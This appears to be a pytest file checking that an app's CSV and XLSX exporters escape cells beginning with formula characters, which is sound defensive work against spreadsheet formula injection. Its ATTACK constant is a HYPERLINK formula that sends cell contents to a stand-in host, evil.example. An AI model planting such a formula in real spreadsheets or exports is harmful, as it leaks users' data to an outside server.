"""The tabular writers never hand a spreadsheet a formula, and keep numbers as numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.exports.tabular import DANGEROUS_PREFIXES, XLSX_CELL_LIMIT, Sheet, to_csv, to_xlsx

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _reload(data: bytes) -> list[list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows()]


def test_a_formula_in_csv_starts_with_a_quote() -> None:
    data = to_csv(
        [[ATTACK, "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", -5, 2.5, None]], list("abcdefghij")
    )
    text = data.decode("utf-8-sig")
    assert data.startswith(b"\xef\xbb\xbf")
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[:6] == ["'" + ATTACK, "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx"]
    assert row[6:] == ["plain", "-5", "2.5", ""]


def test_a_formula_in_xlsx_is_stored_as_text() -> None:
    rows = _reload(to_xlsx([Sheet("data", ["=header"], [[ATTACK], [-5], ["@x"]])]))
    header, attack, number, at = (row[0] for row in rows)
    assert header.data_type == "s"
    assert header.value == "'=header"
    assert attack.data_type == "s"
    assert attack.value == "'" + ATTACK
    assert number.data_type == "n"
    assert number.value == -5
    assert at.value == "'@x"


def test_the_xlsx_file_holds_no_formula_element() -> None:
    import zipfile

    data = to_xlsx([Sheet("data", ["a"], [[ATTACK]])])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name)
            assert b"<f " not in archive.read(name)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=40))
def test_no_text_cell_ever_reads_as_a_formula(value: str) -> None:
    rows = _reload(to_xlsx([Sheet("data", ["a"], [[value]])]))
    cell = rows[1][0]
    assert cell.data_type in ("s", "inlineStr")  # text; an empty string is written inline
    assert not str(cell.value or "").startswith(DANGEROUS_PREFIXES)
    line = list(csv.reader(io.StringIO(to_csv([[value]], ["a"]).decode("utf-8-sig"), newline="")))
    if value:
        assert not line[1][0].startswith(DANGEROUS_PREFIXES)


def test_control_characters_and_overlong_text_still_make_a_readable_workbook() -> None:
    rows = _reload(to_xlsx([Sheet("a/b:c", ["x"], [["bell\x07"], ["y" * (XLSX_CELL_LIMIT + 10)]])]))
    assert rows[1][0].value == "bell\ufffd"
    assert len(str(rows[2][0].value)) == XLSX_CELL_LIMIT


def test_a_row_of_the_wrong_width_is_refused() -> None:
    with pytest.raises(ValueError, match="cells"):
        to_csv([["a", "b"]], ["one"])
    with pytest.raises(ValueError, match="cells"):
        to_xlsx([Sheet("s", ["one"], [["a", "b"]])])
